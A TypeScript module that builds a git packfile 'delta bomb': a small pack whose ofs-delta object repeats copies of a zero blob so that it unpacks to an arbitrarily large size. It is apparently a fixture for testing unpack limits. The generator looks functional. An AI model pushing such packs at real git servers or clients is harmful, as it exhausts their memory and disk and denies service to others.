/** A pack of a few kilobytes whose last object unpacks to as much as wanted. */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const BASE_BYTES = 12 * 1024 * 1024;
const COPY_BYTES = 0xff_ff_ff;

/** Zeros once, and a delta that repeats them: neither is large enough for git to stream it. */
export function deltaBomb(sizeBytes: number): Buffer {
  const base = entry(3, Buffer.alloc(BASE_BYTES));
  const copies = Math.ceil(sizeBytes / Math.min(BASE_BYTES, COPY_BYTES));
  // Copy from offset 0 (no offset bytes) three bytes of size.
  const copy = Buffer.from([0b1111_0000, BASE_BYTES & 0xff, (BASE_BYTES >> 8) & 0xff, BASE_BYTES >> 16]);
  const sizes = Buffer.from([...varint(BASE_BYTES), ...varint(copies * BASE_BYTES)]);
  const delta = Buffer.concat([sizes, ...Array.from({ length: copies }, () => copy)]);
  const bomb = entry(6, delta, offset(base.length));
  const head = Buffer.from([...Buffer.from('PACK'), 0, 0, 0, 2, 0, 0, 0, 2]);
  const body = Buffer.concat([head, base, bomb]);
  return Buffer.concat([body, createHash('sha1').update(body).digest()]);
}

function entry(type: number, content: Buffer, extra: Buffer = Buffer.alloc(0)): Buffer {
  const [first, ...rest] = sizeBytes(content.length, type);
  return Buffer.concat([Buffer.from([first!, ...rest]), extra, deflateSync(content)]);
}

function sizeBytes(length: number, type: number): number[] {
  const bytes = [(type << 4) | (length & 15)];
  for (let left = length >> 4; left > 0; left >>= 7) {
    bytes[bytes.length - 1]! |= 0x80;
    bytes.push(left & 0x7f);
  }
  return bytes;
}

function varint(value: number): number[] {
  const bytes: number[] = [];
  let left = value;
  while (left > 0x7f) {
    bytes.push((left % 128) | 0x80);
    left = Math.floor(left / 128);
  }
  return [...bytes, left];
}

/** How far back the base lies, as `ofs-delta` writes it. */
function offset(distance: number): Buffer {
  const bytes = [distance & 0x7f];
  for (let left = distance >> 7; left > 0; left >>= 7) bytes.unshift(0x80 | (--left & 0x7f));
  return Buffer.from(bytes);
}
